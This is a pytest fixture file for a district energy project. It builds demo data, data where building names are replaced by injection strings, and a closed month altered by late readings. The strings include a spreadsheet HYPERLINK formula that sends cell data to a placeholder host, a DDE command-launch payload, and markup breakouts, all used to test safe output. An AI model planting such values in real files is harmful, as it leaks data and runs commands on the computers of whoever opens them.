"""The demo district loaded and computed: as it is, with hostile names, and with a closed month that late readings changed."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from scicity.city import City

DEMO = Path(__file__).parents[2] / "districts" / "demo"
LATE = DEMO / "late" / "dorm-main-2023-01-11.csv"
CLOSED = "2023-01"
# What a name can try: a formula of a spreadsheet, markup of the page, of XML and of HTML, a script that runs the other way.
HOSTILE = {
    "lab": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "office": '#set page(fill: red)\n]#panic("x") $x$ @ref <b>&amp;]]></b>',
    "dorm": "+1+cmd|' /C calc'!A0",
    "boiler": "@SUM(A1:A9) \u202eabc 锅炉房" + "x" * 90,
}


@pytest.fixture(scope="session")
def demo(shipped: Callable[[str], City]) -> City:
    return shipped("demo")


@pytest.fixture(scope="session")
def hostile(demo: City, tmp_path_factory: pytest.TempPathFactory) -> City:
    folder = tmp_path_factory.mktemp("hostile") / "district"
    shutil.copytree(DEMO, folder)
    file = folder / "registers" / "buildings.csv"
    with file.open(encoding="utf-8", newline="") as lines:
        rows = list(csv.DictReader(lines))
    with file.open("w", encoding="utf-8", newline="") as lines:
        out = csv.DictWriter(lines, rows[0].keys())
        out.writeheader()
        for row in rows:
            name = HOSTILE.get(row["building"], row["name_en"])
            out.writerow(row | {"name_zh": name, "name_en": name})
    city = City(folder, Path(shutil.copytree(demo.state, folder.parent / "state")))
    city.load()
    city.compute()
    return city


@pytest.fixture(scope="session")
def closed(demo: City, tmp_path_factory: pytest.TempPathFactory) -> City:
    """January was closed before the late readings of its eleventh day came."""
    state = tmp_path_factory.mktemp("closed") / "state"
    shutil.copytree(demo.state, state)
    city = City(DEMO, state)
    city.closings.close(CLOSED, "officer", "the month is over", datetime(2023, 3, 1, tzinfo=UTC))
    city.take(LATE)
    city.compute()
    return city
